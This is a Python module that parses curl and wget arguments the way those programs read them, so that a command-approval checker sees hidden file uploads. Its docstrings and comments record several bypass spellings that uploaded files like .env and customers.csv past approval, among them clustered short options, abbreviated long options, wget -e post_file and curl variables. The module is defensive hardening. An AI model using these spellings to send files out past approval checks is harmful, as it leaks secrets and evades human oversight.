"""curl's words as curl reads them: a cluster of short options (``-sT.env``, ``-sd@f``, ``-sfLT f``) as one option a
word, each with its value.

rt52: every reader of curl's words looked for ``-T``, ``-d @…`` or ``-F`` as a word of its own, or glued to its value
at the start of a word (``-d@f``); curl takes several short options in one word, the last one's value glued to it or
in the next word, so ``curl -sT.env URL``, ``curl -sTdata/customers.csv URL``, ``curl -sd@notes.txt URL`` and
``curl -sFx=@f URL`` uploaded the file, approved (not even the Rule of Two saw ``.env``: it was no word of its own).
"""

from __future__ import annotations

import re
import shlex

# curl 7.88's short options that take a value (the rest of the word, or the next word); every other letter below is a
# flag, and a letter curl does not know makes it refuse the whole command (the word is kept as it is)
VALUED = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")
FLAGS = frozenset("0123456aBfgGhIijJklLMnNOpqRsSvVZ#:")
# curl 7.88's long options (`curl --help all`): curl takes any unambiguous start of one for the whole name, so
# `--data-bin @.env` is `--data-binary @.env` and `--upload-fil` is `--upload-file` (the lead, fifty-second wave: every
# reader looked for the whole name, and `curl --data-bin @.env URL` uploaded the file, approved)
LONG = frozenset("""
    abstract-unix-socket alt-svc anyauth append aws-sigv4 basic cacert capath cert cert-status cert-type ciphers
    compressed compressed-ssh config connect-timeout connect-to continue-at cookie cookie-jar create-dirs
    create-file-mode crlf crlfile curves data data-ascii data-binary data-raw data-urlencode delegation digest
    disable disable-eprt disable-epsv disallow-username-in-url dns-interface dns-ipv4-addr dns-ipv6-addr
    dns-servers doh-cert-status doh-insecure doh-url dump-header egd-file engine etag-compare etag-save
    expect100-timeout fail fail-early fail-with-body false-start form form-escape form-string ftp-account
    ftp-alternative-to-user ftp-create-dirs ftp-method ftp-pasv ftp-port ftp-pret ftp-skip-pasv-ip ftp-ssl-ccc
    ftp-ssl-ccc-mode ftp-ssl-control get globoff happy-eyeballs-timeout-ms haproxy-protocol head header help
    hostpubmd5 hostpubsha256 hsts http0.9 http1.0 http1.1 http2 http2-prior-knowledge http3 http3-only
    ignore-content-length include insecure interface ipv4 ipv6 json junk-session-cookies keepalive-time key
    key-type krb libcurl limit-rate list-only local-port location location-trusted login-options mail-auth
    mail-from mail-rcpt mail-rcpt-allowfails manual max-filesize max-redirs max-time metalink negotiate netrc
    netrc-file netrc-optional next no-alpn no-buffer no-clobber no-keepalive no-npn no-progress-meter
    no-sessionid noproxy ntlm ntlm-wb oauth2-bearer output output-dir parallel parallel-immediate parallel-max
    pass path-as-is pinnedpubkey post301 post302 post303 preproxy progress-bar proto proto-default proto-redir
    proxy proxy-anyauth proxy-basic proxy-cacert proxy-capath proxy-cert proxy-cert-type proxy-ciphers
    proxy-crlfile proxy-digest proxy-header proxy-insecure proxy-key proxy-key-type proxy-negotiate proxy-ntlm
    proxy-pass proxy-pinnedpubkey proxy-service-name proxy-ssl-allow-beast proxy-ssl-auto-client-cert
    proxy-tls13-ciphers proxy-tlsauthtype proxy-tlspassword proxy-tlsuser proxy-tlsv1 proxy-user proxy1.0
    proxytunnel pubkey quote random-file range rate raw referer remote-header-name remote-name remote-name-all
    remote-time remove-on-error request request-target resolve retry retry-all-errors retry-connrefused
    retry-delay retry-max-time sasl-authzid sasl-ir service-name show-error silent socks4 socks4a socks5
    socks5-basic socks5-gssapi socks5-gssapi-nec socks5-gssapi-service socks5-hostname speed-limit speed-time
    ssl ssl-allow-beast ssl-auto-client-cert ssl-no-revoke ssl-reqd ssl-revoke-best-effort sslv2 sslv3 stderr
    styled-output suppress-connect-headers tcp-fastopen tcp-nodelay telnet-option tftp-blksize tftp-no-options
    time-cond tls-max tls13-ciphers tlsauthtype tlspassword tlsuser tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 tlsv1.3
    tr-encoding trace trace-ascii trace-time unix-socket upload-file url url-query use-ascii user user-agent
    verbose version write-out xattr
""".split())

# GNU Wget 1.21's long options (`wget --help`): getopt_long takes an unambiguous start too (`--post-fi=notes.txt`
# uploaded the file, approved), and `--NAME=VALUE`
WGET_LONG = frozenset("""
    accept accept-regex adjust-extension append-output ask-password auth-no-challenge background
    backup-converted backups base bind-address body-data body-file ca-certificate ca-directory certificate
    certificate-type ciphers compression config connect-timeout content-disposition content-on-error continue
    convert-file-only convert-links crl-file cut-dirs debug default-page delete-after directory-prefix
    dns-timeout domains exclude-directories exclude-domains execute follow-ftp follow-tags force-directories
    force-html ftp-password ftp-user ftps-clear-data-connection ftps-fallback-to-ftp ftps-implicit
    ftps-resume-ssl header help hsts-file http-password http-user https-only ignore-case ignore-length
    ignore-tags include-directories inet4-only inet6-only input-file keep-session-cookies level limit-rate
    load-cookies local-encoding max-redirect method mirror no-cache no-check-certificate no-clobber no-config
    no-cookies no-directories no-dns-cache no-glob no-host-directories no-hsts no-http-keep-alive
    no-if-modified-since no-iri no-netrc no-parent no-passive-ftp no-proxy no-remove-listing
    no-use-server-timestamps no-verbose no-warc-compression no-warc-digests no-warc-keep-log output-document
    output-file page-requisites password pinnedpubkey post-data post-file prefer-family preserve-permissions
    private-key private-key-type progress protocol-directories proxy-password proxy-user quiet quota random-wait
    read-timeout recursive referer regex-type reject reject-regex rejected-log relative remote-encoding
    report-speed restrict-file-names retr-symlinks retry-connrefused retry-on-http-error save-cookies
    save-headers secure-protocol server-response show-progress span-hosts spider start-pos strict-comments
    timeout timestamping tries trust-server-names unlink use-askpass user user-agent verbose version wait
    waitretry warc-cdx warc-dedup warc-file warc-header warc-max-size warc-tempdir xattr
""".split())


# GNU Wget 1.21's short options (`wget --help`): those that take a value (the rest of the word, or the next word;
# `-n` takes the rest of its word: `-nv`, `-nc`), and the flags; a letter it does not know keeps the word as it is
WGET_VALUED = frozenset("eoaiBtOTwQPUlARDIX")
WGET_FLAGS = frozenset("VhbdqvFcNS46xErkKmpHL")
# wgetrc commands (`-e CMD`, `--execute=CMD`) whose name is not their long option's written without `-`/`_`
_WGETRC_NAMES = {"input": "input-file", "logfile": "output-file", "dirprefix": "directory-prefix", "numtries": "tries",
                 "reclevel": "level", "chooseconfig": "config", "httppasswd": "http-password",
                 "ftppasswd": "ftp-password", "proxypasswd": "proxy-password", "htmlextension": "adjust-extension",
                 "relativeonly": "relative"}


def for_program(prog: str, args: list[str]) -> list[str]:
    """``args`` as ``prog`` reads its options: curl's clusters and long options' starts (``words``); wget's clusters
    (``-qO-``), long options' starts (``--post-fi=f`` -> ``--post-file=f``) and wgetrc commands given with ``-e`` as
    the long option they set (``-e post_file=f`` -> ``--post-file=f``); any other program's as they are."""
    if prog == "curl":
        out: list[str] = []
        for word in words(args):
            out += _valued(word) if "--" not in out and word.startswith("-") and not word.startswith("--") and (
                "$" in word or "`" in word) else [word]
        return _expand(out) if any(w.startswith("--expand-") for w in out) else out
    if prog in ("wget", "wget2"):
        return wget_words(args)
    return args


_VARIABLE = re.compile(r"(%?)([A-Za-z_]\w*)(?:\[[^]]*\])?([=@])?(.*)", re.S)
_MUSTACHE = re.compile(r"\{\{([A-Za-z_]\w*)((?::\w+)*)\}\}")


def _expand(args: list[str]) -> list[str]:
    """curl 8.3's variables: ``--variable NAME@FILE`` holds FILE's text (``@-``: its input), ``--variable %NAME`` the
    environment's NAME, ``--variable NAME=TEXT`` the text; ``--expand-OPTION VALUE`` is ``--OPTION`` with each
    ``{{NAME}}`` (``{{NAME:trim:url}}``…) of VALUE replaced. rt54: ``--variable f@customers.csv --expand-url
    "http://h/{{f}}"`` (also ``--expand-data``, ``--expand-header``) sent the file: no reader knew the options. Here
    a file's text becomes ``$(cat FILE)``, the environment's ``$NAME``, so every reader judges what curl sends as it
    judges the shell's spelling of the same value (refused where ``-d "$(cat FILE)"`` is)."""
    values: dict[str, str] = {}
    out: list[str] = []
    for i, word in enumerate(args):
        ended = "--" in args[:i]
        given = args[i - 1] if i and "--" not in args[:i - 1] else ""
        if given in ("--variable", "--expand-variable"):  # (an --expand-variable's own value may use earlier ones)
            value = _MUSTACHE.sub(lambda m: values.get(m.group(1), ""), word) if given != "--variable" else word
            if (m := _VARIABLE.fullmatch(value)) is not None:
                env, name, how, rest = m.groups()
                values[name] = f"${{{name}}}" if env and not how else f"$(cat {shlex.quote(rest)})" if how == "@" \
                    else rest if how == "=" and not env else "$(cat -)"  # `%NAME=default`: the environment's or it
            out.append(value)
        elif word.startswith("--expand-") and not ended:
            out.append(long_name("--" + word[len("--expand-"):]))
        elif given.startswith("--expand-"):
            out.append(_MUSTACHE.sub(lambda m: values.get(m.group(1), ""), word))
        else:
            out.append(word)
    return out


def wget_words(args: list[str]) -> list[str]:
    """wget's words as getopt_long and wget's own ``-e`` read them. rt53: ``wget -e post_file=notes.txt URL`` (also
    ``-epost_file=…``, ``--execute=body_file=…``) is ``--post-file=notes.txt``: every reader looked for the long
    option only, so each uploaded a workspace file, approved."""
    split: list[str] = []
    for k, word in enumerate(args):
        if word == "--":
            split += args[k:]
            break
        if word.startswith("--") and len(word) > 2:
            name, eq, value = word.partition("=")
            split.append(long_name(name, WGET_LONG) + eq + value if "$" not in name and "`" not in name else word)
        elif word.startswith("-") and len(word) > 2 and "$" not in word[:2] and "`" not in word[:2]:
            split += _wget_cluster(word)
        else:
            split.append(word)
    out: list[str] = []
    i = 0
    while i < len(split):
        word = split[i]
        if word in ("-e", "--execute") and i + 1 < len(split) and "--" not in out:
            out.append(_wgetrc(split[i + 1]) or word)
            if out[-1] == word:
                out.append(split[i + 1])
            i += 2
            continue
        if word.startswith("--execute="):
            out.append(_wgetrc(word.partition("=")[2]) or word)
            i += 1
            continue
        out.append(word)
        i += 1
    return out


def _wget_cluster(word: str) -> list[str]:
    out: list[str] = []
    for i, letter in enumerate(word[1:], 1):
        if letter == "n":  # `-nv`, `-nc`, `-nH`: the rest of the word is n's
            return [*out, "-" + word[i:]]
        if letter in WGET_VALUED:
            return [*out, "-" + letter, *([word[i + 1:]] if word[i + 1:] else [])]
        if letter not in WGET_FLAGS:
            return [word]
        out.append("-" + letter)
    return out


def _wgetrc(command: str) -> str | None:
    """A wgetrc command (``post_file = f``) as the long option it sets (``--post-file=f``): wget ignores case, ``-``
    and ``_`` in its name and the blanks around ``=``; None where it names no long option (``robots=off``)."""
    name, eq, value = command.partition("=")
    if not eq or "$" in name or "`" in name:
        return None
    key = "".join(ch for ch in name.lower() if ch not in "-_ \t")
    long = _WGETRC_NAMES.get(key) or next((n for n in WGET_LONG if n.replace("-", "") == key), None)
    return f"--{long}={value.strip()}" if long else None


def words(args: list[str]) -> list[str]:
    """``args`` with each cluster of short options split as curl splits it: ``-sT.env`` -> ``-s -T .env``,
    ``-sfLT`` ``f`` -> ``-s -f -L -T`` ``f``, and each long option's start written whole (``--data-bin`` ->
    ``--data-binary``). A word with an expansion (only known when it runs), after ``--``, or
    with a letter curl does not know is kept whole."""
    out: list[str] = []
    ended = False
    for word in args:
        if not ended and word.startswith("--") and len(word) > 2 and "$" not in word and "`" not in word:
            out.append(long_name(word))
            continue
        if ended or not word.startswith("-") or word.startswith("--") or len(word) < 3 or "$" in word or "`" in word:
            ended = ended or word == "--"
            out.append(word)
            continue
        split: list[str] = []
        for i, letter in enumerate(word[1:], 1):
            if letter in VALUED:
                split.append("-" + letter)
                if word[i + 1:]:
                    split.append(word[i + 1:])
                break
            if letter not in FLAGS:
                split = [word]
                break
            split.append("-" + letter)
        out += split
    return out


def _valued(word: str) -> list[str]:
    """A cluster whose expansion is only in its last option's value, split as curl splits it: ``-sA"$(cat f)"`` ->
    ``-s -A $(cat f)``. rt53: ``words`` keeps every word with an expansion whole, so no reader saw the computed value
    of ``-sd"$(cat customers.csv)"``, ``-sH"X: $(…)"`` or ``-sA"$(…)"``: each sent it, approved. A word whose letters
    themselves are only known when it runs is kept whole."""
    for i, letter in enumerate(word[1:], 1):
        if letter in VALUED:
            return [*("-" + f for f in word[1:i]), "-" + letter, *([word[i + 1:]] if word[i + 1:] else [])]
        if letter not in FLAGS:
            return [word]
    return [word]


def long_name(word: str, known: frozenset[str] = LONG) -> str:
    """``--NAME`` as curl (``known``: its long options) reads it: the option's whole name when NAME is one, or the start
    of exactly one (a start that several share, or none, is refused by the program: the word is kept as it is then)."""
    name = word[2:]
    if name in known:
        return word
    hits = [n for n in known if n.startswith(name)]
    return f"--{hits[0]}" if len(hits) == 1 else word
